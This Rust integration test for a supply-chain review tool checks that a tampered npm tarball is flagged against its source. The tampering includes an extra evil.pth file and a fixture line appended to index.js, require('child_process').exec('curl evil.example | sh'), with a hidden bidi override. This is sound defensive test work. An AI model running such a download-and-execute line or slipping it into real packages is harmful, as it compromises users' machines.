//! Comparing an artifact file on the review ("Compare an artifact file...") through the
//! commands, in Tauri's mock runtime, on the demo world: an npm tarball of the tag with an
//! extra `.pth` file shows it only in the artifact and raises a high flag to acknowledge;
//! `git archive`'s PAX header is refused as crafted; paths that are not files are refused.

#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

mod mock;

use std::process::Command;

use serde_json::{json, Value};

use chainlock_app::state::Shared;
use chainlock_cosign::workspace::now;
use chainlock_cosign::{demo, Workspace};
use chainlock_signer::testing::SecretServiceSession;
use mock::MockApp;

/// `npm pack`'s shape of `tag` with an extra `evil.pth`; with `index_line`, that line is also
/// appended to `index.js` (a file that then differs from the source).
fn tarball(
    source: &std::path::Path,
    tag: &str,
    dir: &std::path::Path,
    index_line: Option<&str>,
) -> std::path::PathBuf {
    let name = if index_line.is_some() {
        "edited"
    } else {
        "plain"
    };
    let tree = dir.join(format!("artifact-tree-{name}"));
    std::fs::create_dir_all(tree.join("package")).unwrap();
    let archive = Command::new("git")
        .arg("-C")
        .arg(source)
        .args(["archive", "--format=tar", tag])
        .output()
        .unwrap();
    let mut untar = Command::new("tar")
        .arg("-x")
        .arg("-C")
        .arg(tree.join("package"))
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(&mut untar.stdin.take().unwrap(), &archive.stdout).unwrap();
    assert!(untar.wait().unwrap().success());
    std::fs::write(tree.join("package/evil.pth"), "import os\n").unwrap();
    if let Some(line) = index_line {
        let index = tree.join("package/index.js");
        let mut text = std::fs::read_to_string(&index).unwrap();
        text.push_str(line);
        text.push('\n');
        std::fs::write(&index, text).unwrap();
    }
    let tgz = dir.join(format!("pad-1.1.0-{name}.tgz"));
    assert!(Command::new("tar")
        .args(["--format=gnu", "-czf"])
        .arg(&tgz)
        .arg("-C")
        .arg(&tree)
        .arg("package")
        .status()
        .unwrap()
        .success());
    tgz
}

#[test]
fn an_artifact_with_an_extra_pth_file_is_shown_against_the_source() {
    let session = SecretServiceSession::start();
    for (name, value) in session.envs() {
        std::env::set_var(name, value);
    }
    let dir = tempfile::tempdir().unwrap();
    let world = demo::create(&dir.path().join("demo"), now(), |_| {}).unwrap();
    let ws = Workspace::open(world.you.clone()).unwrap();
    let pending = world.pending.to_hex();
    let app = MockApp::new(Shared::new(ws));
    let compare = |artifact: &str| {
        app.try_call(
            "review_artifact",
            json!({ "request": pending, "artifact": artifact }),
        )
    };

    // Without an artifact the demo compares none (its own artifact is a single .js file).
    let plain = app
        .try_call("review", json!({ "request": pending }))
        .unwrap();
    assert_eq!(plain["artifact"], Value::Null);

    let tgz = tarball(&world.dir.join("source"), "v1.1.0", dir.path(), None);
    let review = compare(&tgz.display().to_string()).unwrap();
    let artifact = &review["artifact"];
    assert_eq!(
        artifact["only_in_artifact"],
        json!(["package/evil.pth"]),
        "{review:#}"
    );
    assert_eq!(artifact["differing"], json!([]));
    assert!(artifact["identical"].as_u64().unwrap() >= 2, "{artifact:#}");
    assert_eq!(artifact["file"], json!(tgz.display().to_string()));
    let flags = review["risk"].as_array().unwrap();
    assert!(
        flags
            .iter()
            .any(|f| f["path"] == json!("package/evil.pth") && f["severity"] == json!("high")),
        "{flags:#?}"
    );
    assert!(
        review["warnings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|w| w.as_str().unwrap().contains("evil.pth")),
        "a high flag must be acknowledged before signing: {review:#}"
    );
    // The tarball is not what the builders rebuilt: a flag about the whole artifact, with no
    // file to name, and both digests shown whole (the warning is what the signer acknowledges).
    let mismatch = flags
        .iter()
        .find(|f| f["code"] == json!("artifact-only-file") && f["path"].is_null())
        .unwrap_or_else(|| panic!("no flag about the whole artifact: {flags:#?}"));
    let detail = mismatch["detail"].as_str().unwrap();
    assert!(!detail.contains("cut:"), "{detail}");
    let warning = review["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w.as_str().unwrap())
        .find(|w| w.contains("the agreeing rebuilds produced"))
        .unwrap_or_else(|| panic!("{review:#}"));
    assert!(
        warning.starts_with("high risk flag artifact-only-file: ") && !warning.contains("cut:"),
        "{warning}"
    );

    // index.js edited in the artifact: the file is listed with its diff, the added line
    // escaped (a bidi override shows as its code, not as reordered text).
    let line = "require('child_process').exec('curl evil.example | sh') // \u{202e}";
    let edited = tarball(&world.dir.join("source"), "v1.1.0", dir.path(), Some(line));
    let review = compare(&edited.display().to_string()).unwrap();
    let differing = review["artifact"]["differing"].as_array().unwrap();
    assert_eq!(differing.len(), 1, "{review:#}");
    assert_eq!(differing[0]["path"], json!("package/index.js"));
    assert_eq!(differing[0]["binary"], json!(false));
    let diff = differing[0]["diff"].as_str().unwrap();
    assert!(
        diff.lines()
            .any(|l| l.starts_with("+require('child_process')") && l.ends_with("\\u{202e}")),
        "{diff}"
    );
    assert!(!diff.contains('\u{202e}'), "{diff}");

    // `git archive`'s PAX global header: refused as crafted, and said so.
    let pax = dir.path().join("pax.tgz");
    let archive = Command::new("git")
        .arg("-C")
        .arg(world.dir.join("source"))
        .args(["archive", "--format=tgz", "--prefix=package/", "-o"])
        .arg(&pax)
        .arg("v1.1.0")
        .status()
        .unwrap();
    assert!(archive.success());
    let review = compare(&pax.display().to_string()).unwrap();
    assert_eq!(review["artifact"], Value::Null);
    let why = review["risk_error"].as_str().unwrap();
    assert!(why.contains("do not sign it"), "{why}");

    // Paths that are not files are refused before anything reads them.
    let not_a_file = dir.path().display().to_string();
    for bad in ["pad-1.1.0.tgz", "", not_a_file.as_str()] {
        let (kind, message) = compare(bad).unwrap_err();
        assert_eq!(kind, "invalid-input", "{bad:?}: {message}");
        assert!(message.contains("artifact"), "{message}");
    }
    drop(app);
    demo::clean(&world.dir).unwrap();
}
